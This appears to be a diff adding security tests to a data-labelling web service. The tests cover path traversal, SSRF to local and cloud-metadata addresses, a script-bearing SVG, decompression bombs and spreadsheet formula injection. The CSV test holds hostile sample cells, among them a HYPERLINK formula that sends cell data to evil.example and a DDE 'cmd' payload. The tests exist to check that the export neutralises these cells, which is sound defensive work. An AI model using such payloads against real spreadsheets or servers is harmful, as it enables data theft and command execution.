@@ -2,13 +2,24 @@
 
 from __future__ import annotations
 
+import csv
+import hashlib
 import io
+import json
 from pathlib import Path
 
 from fastapi.testclient import TestClient
 from PIL import Image
 
-from tests.conftest import wait_until
+from labelloop.runtime import Runtime
+from tests.data_support import StubServer, image_route, png, png_declaring
+from tests.support import wait_until
+
+
+def gif() -> bytes:
+    buf = io.BytesIO()
+    Image.new("P", (4, 4)).save(buf, format="GIF")
+    return buf.getvalue()
 
 
 def new_task(c: TestClient, category: str, labels: list[str]) -> int:
@@ -117,3 +128,293 @@ def test_csv_of_texts(app_client: TestClient) -> None:
         files={"file": ("t.csv", b"text\nx\n", "text/csv")},
     )
     assert r.status_code == 422 and "image-classification" in r.json()["detail"]
+
+
+# --- what item links may reach, and what /content serves -----------------------------------------
+
+
+def test_item_links_cannot_name_the_data_folder(
+    app_client: TestClient, rt_data: Path, image_root: Path
+) -> None:
+    """The store, the Label Studio tokens and other tasks' uploads are refused when the item is
+    created, however the path is spelled."""
+    c = app_client
+    (rt_data / "labelstudio").mkdir(parents=True, exist_ok=True)
+    (rt_data / "labelstudio" / "credentials.json").write_text('{"http://ls": "secret"}')
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    for link in (
+        str(rt_data / "labelloop.db"),
+        f"file://{rt_data}/labelloop.db",
+        f"{image_root}/../data/labelloop.db",
+        str(rt_data / "labelstudio" / "credentials.json"),
+    ):
+        r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": link}]})
+        assert r.status_code == 403, (link, r.text)
+        assert r.json()["error"] == "forbidden_path" and "items[0]" in r.json()["detail"]
+    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0
+
+
+def test_uploads_are_named_by_reference_within_their_task(
+    app_client: TestClient, rt_data: Path
+) -> None:
+    c = app_client
+    a = new_task(c, "image-classification", ["dark", "light"])
+    b = new_task(c, "image-classification", ["dark", "light"])
+    r = c.post(f"/api/v1/tasks/{a}/uploads", files=[("files", ("x.png", png((8, 8)), "image/png"))])
+    assert r.status_code == 201, r.text
+    item_id = c.get(f"/api/v1/tasks/{a}/next").json()["items"][0]["id"]
+    item = c.get(f"/api/v1/tasks/{a}/items/{item_id}").json()
+    name = item["data"].removeprefix("upload:")
+    assert item["data"].startswith("upload:") and str(rt_data) not in item["data"]
+    assert (rt_data / f"task-{a}" / "Uploads" / name).read_bytes() == png((8, 8))
+    got = c.get(f"/api/v1/tasks/{a}/items/{item_id}/content")
+    assert got.status_code == 200 and got.headers["content-type"] == "image/png"
+    assert got.content == png((8, 8))
+    wait_until(lambda: c.get(f"/api/v1/tasks/{a}").json()["counts"]["ready"] == 1)
+    # Another task can name neither the reference nor the file.
+    r = c.post(f"/api/v1/tasks/{b}/items", json={"items": [{"data": item["data"]}]})
+    assert r.status_code == 422 and "no upload" in r.json()["detail"]
+    path = str(rt_data / f"task-{a}" / "Uploads" / name)
+    r = c.post(f"/api/v1/tasks/{b}/items", json={"items": [{"data": path}]})
+    assert r.status_code == 403 and "data folder" in r.json()["detail"]
+
+
+def test_items_stored_with_a_path_into_their_uploads_keep_working(
+    app_client: TestClient, rt: Runtime, rt_data: Path
+) -> None:
+    """Before uploads were named by reference, items held the path of the uploaded file: they are
+    still read (content, features), by their own task only."""
+    from labelloop.loop.scheduling import featurize_jobs
+    from labelloop.service.common import enqueue
+    from labelloop.store.models import Item
+
+    c = app_client
+    a = new_task(c, "image-classification", ["dark", "light"])
+    b = new_task(c, "image-classification", ["dark", "light"])
+    name = f"{hashlib.sha256(png((8, 8))).hexdigest()}.png"
+    stored = rt_data / f"task-{a}" / "Uploads" / name
+    stored.parent.mkdir(parents=True)
+    stored.write_bytes(png((8, 8)))
+    with rt.session() as s:
+        old = Item(task_id=a, external_id=f"upload:{name[:64]}", data=str(stored))
+        stolen = Item(task_id=b, external_id="x", data=str(stored))
+        s.add_all([old, stolen])
+        s.flush()
+        ids = (old.id, stolen.id)
+        jobs = featurize_jobs(s, a, [old.id]) + featurize_jobs(s, b, [stolen.id])
+    enqueue(rt, jobs)
+    got = c.get(f"/api/v1/tasks/{a}/items/{ids[0]}/content")
+    assert got.status_code == 200 and got.content == png((8, 8))
+    assert c.get(f"/api/v1/tasks/{b}/items/{ids[1]}/content").status_code == 403
+    wait_until(lambda: c.get(f"/api/v1/tasks/{a}/items/{ids[0]}").json()["status"] == "ready")
+    wait_until(lambda: c.get(f"/api/v1/tasks/{b}/items/{ids[1]}").json()["status"] == "failed")
+    # Uploading the same image again finds the stored item.
+    r = c.post(f"/api/v1/tasks/{a}/uploads", files=[("files", ("x.png", png((8, 8)), "image/png"))])
+    assert r.json()["existing"] == 1 and r.json()["created"] == 0
+
+
+def test_content_is_only_what_the_task_can_show(app_client: TestClient, image_root: Path) -> None:
+    """An image task's content is an image of a known format with its own type, or an error in
+    people's words: never another kind of file as octet-stream."""
+    c = app_client
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    files = {
+        "notes.png": b"user: admin\npassword: hunter2\n",
+        "page.png": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
+        "ok.gif": gif(),
+    }
+    for name, raw in files.items():
+        (image_root / name).write_bytes(raw)
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/items",
+        json={"items": [{"data": str(image_root / n), "external_id": n} for n in files]},
+    )
+    assert r.status_code == 201, r.text
+    ids = {it["external_id"]: it["id"] for it in r.json()["items"]}
+    for name in ("notes.png", "page.png"):
+        got = c.get(f"/api/v1/tasks/{task_id}/items/{ids[name]}/content")
+        assert got.status_code == 422 and "not an image" in got.json()["detail"], got.text
+        assert b"hunter2" not in got.content and b"script" not in got.content
+    got = c.get(f"/api/v1/tasks/{task_id}/items/{ids['ok.gif']}/content")
+    assert got.status_code == 200 and got.headers["content-type"] == "image/gif"
+    assert got.headers["x-content-type-options"] == "nosniff"
+    # The featurize job says the same, in people's words (no Python repr of a buffer).
+    wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["pending"] == 0)
+    item = c.get(f"/api/v1/tasks/{task_id}/items/{ids['notes.png']}").json()
+    assert item["status"] == "failed" and "not an image" in item["error"]
+    assert "<_io" not in item["error"] and " at 0x" not in item["error"]
+
+
+def test_a_decompression_bomb_is_refused(app_client: TestClient, image_root: Path) -> None:
+    c = app_client
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    bomb = png_declaring(60000, 60000)
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/uploads", files=[("files", ("bomb.png", bomb, "image/png"))]
+    )
+    assert r.status_code == 422 and "bomb.png" in r.json()["detail"], r.text
+    assert "pixels" in r.json()["detail"]
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/uploads",
+        files=[
+            ("files", ("bomb.png", bomb, "image/png")),
+            ("files", ("ok.png", png(), "image/png")),
+        ],
+    )
+    assert r.status_code == 201 and r.json()["refused"] == ["bomb.png"] and r.json()["created"] == 1
+    # A bomb below an import root: its content and its features are refused, the server goes on.
+    (image_root / "bomb.png").write_bytes(bomb)
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": str(image_root / "bomb.png")}]}
+    )
+    item_id = r.json()["items"][0]["id"]
+    got = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}/content")
+    assert got.status_code == 422 and "pixels" in got.json()["detail"]
+    wait_until(
+        lambda: c.get(f"/api/v1/tasks/{task_id}/items/{item_id}").json()["status"] != "pending"
+    )
+    item = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}").json()
+    assert item["status"] == "failed" and "pixels" in item["error"]
+
+
+def test_control_characters_in_paths_are_a_4xx(app_client: TestClient, image_root: Path) -> None:
+    c = app_client
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    for path in (f"{image_root}\x00/x", f"{image_root}/a\nb", "\x00"):
+        r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": path})
+        assert r.status_code == 422 and "control characters" in r.json()["detail"], r.text
+        r = c.get("/api/v1/import/folders", params={"path": path})
+        assert r.status_code == 422 and "control characters" in r.json()["detail"], r.text
+        r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": path + ".png"}]})
+        assert r.status_code == 422, r.text
+    r = c.post(  # lone surrogates, as JSON escapes
+        f"/api/v1/tasks/{task_id}/import/folder",
+        content=json.dumps({"path": f"{image_root}/\udcff\ud800"}).encode(),
+        headers={"content-type": "application/json"},
+    )
+    assert r.status_code == 422, r.text
+
+
+def test_a_folder_import_leaves_out_links_out_of_the_roots(
+    app_client: TestClient, image_root: Path, tmp_path: Path
+) -> None:
+    c = app_client
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    (image_root / "a.png").write_bytes(png())
+    outside = tmp_path / "outside.png"
+    outside.write_bytes(png())
+    (image_root / "b.png").symlink_to(outside)
+    r = c.post(f"/api/v1/tasks/{task_id}/import/folder", json={"path": str(image_root)})
+    assert r.status_code == 201 and r.json()["created"] == 1, r.text
+
+
+def test_local_addresses_are_refused_when_the_item_is_created(
+    app_client: TestClient, rt: Runtime
+) -> None:
+    """Fetching starts when an item is created: a link to a local address is a 403 then, and the
+    address never sees a request; the operator's allow-list lets it through."""
+    c = app_client
+    task_id = new_task(c, "image-classification", ["a", "b"])
+    with StubServer({"/img.png": image_route()}) as stub:
+        for host in ("127.0.0.1", "localhost", "2130706433", "[::ffff:127.0.0.1]"):
+            link = f"http://{host}:{stub.port}/img.png"
+            r = c.post(f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": link}]})
+            assert r.status_code == 403, (host, r.text)
+            assert r.json()["error"] == "forbidden_address"
+        r = c.post(
+            f"/api/v1/tasks/{task_id}/items",
+            json={"items": [{"data": "http://169.254.169.254/latest/meta-data/"}]},
+        )
+        assert r.status_code == 403
+        assert stub.seen == []
+        assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 0
+        rt.settings.fetch_allow_hosts = ["127.0.0.1"]
+        r = c.post(
+            f"/api/v1/tasks/{task_id}/items", json={"items": [{"data": f"{stub.url}/img.png"}]}
+        )
+        assert r.status_code == 201, r.text
+        item_id = r.json()["items"][0]["id"]
+        wait_until(lambda: c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["ready"] == 1)
+        got = c.get(f"/api/v1/tasks/{task_id}/items/{item_id}/content")
+        assert got.status_code == 200 and got.content == png()
+
+
+# --- CSV in and out -------------------------------------------------------------------------------
+
+
+def test_long_csv_fields(app_client: TestClient) -> None:
+    """A text item may be long: a field over the csv module's default 131,072 characters is
+    taken, up to what an item holds (1,000,000); longer, or a NUL, is a 4xx naming the line."""
+    c = app_client
+    task_id = new_task(c, "text-classification", ["pos", "neg"])
+    long_text = "word " * 40_000
+    csv_text = f'id,text\n1,short\n2,"{long_text}"\n'
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/import/csv",
+        files={"file": ("t.csv", csv_text.encode(), "text/csv")},
+    )
+    assert r.status_code == 201 and r.json()["created"] == 2, r.text
+    items = c.get(f"/api/v1/tasks/{task_id}/export").text.splitlines()
+    assert any(len(json.loads(line)["data"]) == len(long_text.strip()) for line in items)
+    too_long = "x" * 1_000_001
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/import/csv",
+        files={"file": ("t.csv", f"id,text\n1,ok\n2,{too_long}\n".encode(), "text/csv")},
+    )
+    assert r.status_code == 422 and "line 3" in r.json()["detail"], r.text[:300]
+    assert "1,000,000 characters" in r.json()["detail"]
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/import/csv",
+        files={"file": ("t.csv", b"id,text\n1,ok\n2,a\x00b\n", "text/csv")},
+    )
+    assert r.status_code == 422 and "NUL" in r.json()["detail"] and "line 3" in r.json()["detail"]
+    assert c.get(f"/api/v1/tasks/{task_id}").json()["counts"]["items"] == 2
+    # A missing column is named in words, not as a Python list.
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/import/csv",
+        files={"file": ("t.csv", b"a,b\nx,y\n", "text/csv")},
+        data={"text_column": "body"},
+    )
+    assert r.status_code == 422 and "['" not in r.json()["detail"]
+
+
+def test_csv_export_cells_never_run_as_formulas(app_client: TestClient) -> None:
+    c = app_client
+    task_id = new_task(c, "text-classification", ["pos", "neg"])
+    texts = {
+        "f1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "f2": "+1+cmd|' /C calc'!A0",
+        "f3": "-2+3",
+        "f4": "@SUM(1,2)",
+        "f5": "\t=1+1",
+        "f6": "\r=1+1",
+        "plain": "a fine review",
+    }
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/items",
+        json={"items": [{"data": t, "external_id": k} for k, t in texts.items()]},
+    )
+    assert r.status_code == 201, r.text
+    formula_id = c.post(
+        f"/api/v1/tasks/{task_id}/items",
+        json={"items": [{"data": "just text", "external_id": "=cmd()"}]},
+    ).json()["items"][0]["id"]
+    r = c.post(
+        f"/api/v1/tasks/{task_id}/annotations",
+        json={"annotations": [{"item_id": formula_id, "labels": ["pos"], "annotator": "@me"}]},
+    )
+    assert r.status_code == 201, r.text
+    rows = list(
+        csv.DictReader(io.StringIO(c.get(f"/api/v1/tasks/{task_id}/export?format=csv").text))
+    )
+    by_id = {row["external_id"]: row for row in rows}
+    for key, text in texts.items():
+        expected = text if key == "plain" else "'" + text
+        assert by_id[key]["data"] == expected, key
+    assert by_id["'=cmd()"]["annotator"] == "'@me"
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+    # JSON lines keep every value as it is.
+    lines = [json.loads(x) for x in c.get(f"/api/v1/tasks/{task_id}/export").text.splitlines()]
+    assert {x["external_id"]: x["data"] for x in lines if x["external_id"] in texts} == texts
